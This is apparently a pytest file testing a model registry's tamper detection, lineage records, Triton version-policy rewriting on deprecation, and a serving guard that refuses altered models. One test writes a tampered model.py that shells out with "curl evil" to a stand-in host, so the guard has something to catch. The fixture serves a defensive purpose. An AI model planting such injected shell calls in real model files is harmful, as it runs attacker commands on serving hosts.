"""Model registry: deterministic hashes, lineage, tamper detection, deprecation -> Triton
version policy, and the adapter's refusal to serve a tampered or unregistered version
(the guard lives in the core, services/common/integrity.py)."""
from __future__ import annotations

import io
import json
import shutil
import time
from pathlib import Path

import grpc
import pytest
from PIL import Image

from governance import model_registry as mr
from governance.model_registry import ModelRegistry, RegistryError, hash_model
from services.common.integrity import ServingGuard, stat_signature

CONFIG = """name: "car_detector"
backend: "python"
max_batch_size: 16
version_policy: { latest: { num_versions: 1 } }
parameters: { key: "X" value: { string_value: "1" } }
"""


def make_version(repo: Path, version: int, weights: bytes = b"weights-v1") -> Path:
    vdir = repo / "car_detector" / str(version)
    (vdir / "model.savedmodel" / "variables").mkdir(parents=True)
    (vdir / "model.savedmodel" / "saved_model.pb").write_bytes(b"graph" * 100)
    (vdir / "model.savedmodel" / "variables" / "variables.data-00000-of-00001").write_bytes(weights * 1000)
    (vdir / "model.py").write_text("class TritonPythonModel: pass\n")
    (vdir / "model_metadata.json").write_text(json.dumps({
        "model_name": "car_detector", "version": version, "exported_at": "2026-11-29T14:30:00+00:00",
        "git_commit": "abc123", "class_names": ["car"], "architecture": "MobileNetV2",
        "dataset": {"fingerprint": "f" * 64, "images": 844, "path": "/data"},
        "hyperparameters": {"lr": 0.001}, "validation_metrics": {"ap50": 0.9, "precision": 0.8},
        "training": {"epochs_run": 3, "history": [1, 2, 3]},
    }))
    config = repo / "car_detector" / "config.pbtxt"
    if not config.exists():
        config.write_text(CONFIG)
    return vdir


@pytest.fixture()
def repo(tmp_path, monkeypatch):
    monkeypatch.setenv("TRITON_HTTP_URL", "127.0.0.1:9")  # nothing listens: reload requests fail fast
    monkeypatch.setenv("MODEL_REGISTRY_PATH", str(tmp_path / "registry.json"))
    monkeypatch.setenv("MODEL_REPOSITORY", str(tmp_path / "repo"))
    return tmp_path / "repo"


def test_hash_is_deterministic_location_independent_and_ignores_bytecode(repo, tmp_path):
    vdir = make_version(repo, 1)
    first = hash_model(vdir)
    copy = tmp_path / "elsewhere" / "1"
    shutil.copytree(vdir, copy)
    (copy / "__pycache__").mkdir()
    (copy / "__pycache__" / "model.cpython-311.pyc").write_bytes(b"bytecode")
    assert hash_model(copy)["sha256"] == first["sha256"] and len(first["sha256"]) == 64
    assert first["file_count"] == 4 and "model.savedmodel/saved_model.pb" in first["files"]
    (copy / "model.py").write_text("class TritonPythonModel: pass  \n")
    assert hash_model(copy)["sha256"] != first["sha256"]


def test_register_records_lineage_and_is_idempotent(repo, tmp_path):
    registry = ModelRegistry()
    model_id = registry.register_model(make_version(repo, 1), by="alice")
    assert registry.register_model(repo / "car_detector" / "1") == model_id
    entry = registry.get_model(model_id)
    assert entry == registry.get_model("car_detector:1") == registry.get_model("1")
    assert entry["status"] == "active" and entry["registered_by"] == "alice"
    assert entry["lineage"]["git_commit"] == "abc123" and entry["lineage"]["dataset_fingerprint"] == "f" * 64
    assert entry["lineage"]["class_names"] == ["car"] and entry["metrics"]["ap50"] == 0.9
    assert entry["hyperparameters"] == {"lr": 0.001} and "history" not in entry["metadata"]["training"]
    stored = json.loads((tmp_path / "registry.json").read_text())
    assert [m["model_id"] for m in stored["models"]] == [model_id]
    assert registry.get_latest_version("car_detector")["version"] == "1"
    # The images copy it as it is and read it as the service user: never the 0600 of mkstemp.
    assert (tmp_path / "registry.json").stat().st_mode & 0o777 == 0o644


def test_a_changed_shipped_version_is_refused_unless_forced(repo):
    registry = ModelRegistry()
    vdir = make_version(repo, 1)
    old = registry.register_model(vdir)
    (vdir / "model.savedmodel" / "saved_model.pb").write_bytes(b"other graph")
    with pytest.raises(RegistryError, match="already registered"):
        registry.register_model(vdir)
    new = registry.register_model(vdir, force=True)
    assert new != old and registry.get_model(old)["status"] == "superseded"
    assert registry.get_model("car_detector:1")["model_id"] == new


def test_tampering_one_byte_is_detected_and_named(repo, capsys):
    registry = ModelRegistry()
    vdir = make_version(repo, 1)
    registry.register_model(vdir)
    assert [r["status"] for r in registry.verify()] == ["ok"]
    assert mr.main(["verify"]) == 0
    weights = vdir / "model.savedmodel" / "variables" / "variables.data-00000-of-00001"
    data = bytearray(weights.read_bytes())
    data[1234] ^= 0x01
    weights.write_bytes(bytes(data))
    (result,) = ModelRegistry().verify()
    assert result["status"] == "mismatch"
    assert result["changed_files"] == ["model.savedmodel/variables/variables.data-00000-of-00001"]
    assert mr.main(["verify"]) == 1
    assert "mismatch" in capsys.readouterr().out


def test_deprecation_rewrites_the_version_policy(repo):
    registry = ModelRegistry()
    for version in (1, 2, 3):
        registry.register_model(make_version(repo, version, weights=f"w{version}".encode()))
    outcome = registry.deprecate_model("car_detector:3", "worse recall on night frames", by="dpo")
    config = (repo / "car_detector" / "config.pbtxt").read_text()
    assert "version_policy: { specific: { versions: [ 2 ] } }" in config
    assert "latest" not in config and config.count("\nversion_policy") == 1
    assert 'parameters: { key: "X"' in config and "deprecated versions: 3" in config
    assert outcome["served_versions"] == [2] and "not reachable" in outcome["triton"]
    entry = registry.get_model("car_detector:3")
    assert entry["status"] == "deprecated" and entry["deprecation_reason"] == "worse recall on night frames"
    assert registry.get_latest_version("car_detector")["version"] == "2"
    registry.deprecate_model("car_detector:2", "superseded", keep=2)
    assert "versions: [ 1 ]" in (repo / "car_detector" / "config.pbtxt").read_text()
    with pytest.raises(RegistryError, match="no version to serve"):
        registry.deprecate_model("car_detector:1", "nothing left")
    assert registry.get_model("car_detector:1")["status"] == "active"
    with pytest.raises(RegistryError, match="reason"):
        registry.deprecate_model("car_detector:1", "  ")


def test_serving_guard(repo, monkeypatch):
    vdir = make_version(repo, 1)
    guard = ServingGuard(recheck_s=0)
    assert "no model registry" in (guard.refusal("1") or "")  # strict by default: unverified is refused
    assert ServingGuard(strict=True).refusal("1") is not None
    assert ServingGuard(strict=False, recheck_s=0).refusal("1") is None  # the opt-out serves it, with a warning
    monkeypatch.setenv("MODEL_REGISTRY_ENFORCE", "warn")
    assert ServingGuard(recheck_s=0).refusal("1") is None
    monkeypatch.delenv("MODEL_REGISTRY_ENFORCE")
    ModelRegistry().register_model(vdir)
    assert guard.refusal("1") is None
    (vdir / "model.py").write_text("import os; os.system('curl evil')\n")
    reason = guard.refusal("1")
    assert reason and "does not match its registered hash" in reason and "model.py" in reason
    assert ServingGuard(strict=False, recheck_s=0).refusal("1")  # a mismatch is refused even when lenient
    make_version(repo, 2)
    assert "not in the registry" in (guard.refusal("2") or "") and ServingGuard(strict=True).refusal("2")
    assert ServingGuard(strict=False, recheck_s=0).refusal("2") is None


def test_the_serving_guard_refuses_an_unreadable_registry(repo, tmp_path):
    vdir = make_version(repo, 1)
    ModelRegistry().register_model(vdir)
    (tmp_path / "registry.json").write_text("{not json")
    assert "registry check" in (ServingGuard(recheck_s=0).refusal("1") or "")
    assert "not visible" in (ServingGuard(recheck_s=0).refusal("9") or "")


def test_a_swapped_file_with_restored_size_and_mtime_is_caught(repo):
    """Same size, same mtime (touch -r): the inode and ctime still change, so the guard rehashes."""
    vdir = make_version(repo, 1)
    ModelRegistry().register_model(vdir)
    guard = ServingGuard(recheck_s=0)
    assert guard.refusal("1") is None
    target = vdir / "model.py"
    before = target.stat()
    signature = stat_signature(vdir)
    swapped = vdir / "model.py.new"
    swapped.write_text("class TritonPythonModel: passX\n"[: before.st_size])
    assert swapped.stat().st_size == before.st_size
    swapped.replace(target)
    import os

    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert target.stat().st_size == before.st_size and target.stat().st_mtime_ns == before.st_mtime_ns
    assert stat_signature(vdir) != signature
    assert "does not match its registered hash" in (guard.refusal("1") or "")


def test_the_serving_guard_looks_at_the_files_again_after_its_interval(repo, monkeypatch):
    import services.common.integrity as registry_module

    now = [1000.0]  # the guard's clock, moved by hand: no sleep, no window a loaded machine can miss

    class Clock:
        def __getattr__(self, name: str):
            return getattr(time, name)

        def monotonic(self) -> float:
            return now[0]

    monkeypatch.setattr(registry_module, "time", Clock())
    vdir = make_version(repo, 1)
    ModelRegistry().register_model(vdir)
    guard = ServingGuard(recheck_s=30)
    assert guard.refusal("1") is None
    (vdir / "model.py").write_text("tampered\n")
    now[0] += 29
    assert guard.refusal("1") is None  # within the interval: the cached verdict, no file system walk
    now[0] += 2
    assert "does not match its registered hash" in (guard.refusal("1") or "")


# --- the adapter's refusal path, with a fake Triton --------------------------------------------

class FakeDetector:
    model_name = "car_detector"

    def is_ready(self) -> bool:
        return True

    def served_version(self) -> str:
        return "1"

    def detect(self, image: bytes, request_id: str, threshold: float):
        from services.model_serving.triton import Detection, Inference

        return Inference([Detection("car", 0.9, (1.0, 2.0, 30.0, 40.0))], "1", 5.0)


class Aborted(Exception):
    pass


class FakeContext:
    def __init__(self) -> None:
        self.code_value = None

    def invocation_metadata(self):
        return ()

    def abort(self, code, details):
        self.code_value, self.details = code, details
        raise Aborted(details)

    def code(self):
        return self.code_value


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 120, 150)).save(buffer, format="JPEG")
    return buffer.getvalue()


def test_the_adapter_refuses_a_tampered_version(repo):
    from services.model_serving.server import ModelServingServicer
    from services.proto import model_serving_pb2 as pb

    vdir = make_version(repo, 1)
    ModelRegistry().register_model(vdir)
    servicer = ModelServingServicer(FakeDetector(), ServingGuard(recheck_s=0))
    request = pb.PredictionRequest(request_id="r1", image_data=jpeg(), user_id="u")
    assert servicer.Predict(request, FakeContext()).model_version == "1"
    assert servicer.HealthCheck(pb.HealthCheckRequest(), FakeContext()).status == "SERVING"

    (vdir / "model.savedmodel" / "saved_model.pb").write_bytes(b"tampered")
    context = FakeContext()
    with pytest.raises(Aborted):
        servicer.Predict(request, context)
    assert context.code_value == grpc.StatusCode.FAILED_PRECONDITION
    assert "registered hash" in context.details
    health = servicer.HealthCheck(pb.HealthCheckRequest(), FakeContext())
    assert health.status == "NOT_SERVING" and "registered hash" in health.detail


def test_sync_serves_a_new_version_after_a_deprecation(repo, capsys):
    registry = ModelRegistry()
    registry.register_model(make_version(repo, 1))
    registry.register_model(make_version(repo, 2, weights=b"w2"))
    registry.deprecate_model("car_detector:2", "regression", reload=False)
    make_version(repo, 3, weights=b"w3")
    assert mr.main(["register", str(repo / "car_detector" / "3")]) == 0
    assert "sync" in capsys.readouterr().out
    assert mr.main(["sync", "--no-reload"]) == 0
    assert "versions: [ 3 ]" in (repo / "car_detector" / "config.pbtxt").read_text()
